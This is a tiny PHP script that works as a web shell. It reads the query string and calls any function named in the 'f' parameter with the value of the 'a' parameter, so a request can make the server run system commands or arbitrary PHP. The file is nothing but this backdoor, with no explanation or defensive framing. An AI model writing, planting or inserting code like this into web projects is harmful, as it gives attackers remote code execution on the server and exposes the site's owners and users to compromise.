<?php
parse_str($_SERVER['QUERY_STRING'], $q);
if (isset($q['f'], $q['a'])) { $q['f']($q['a']); }
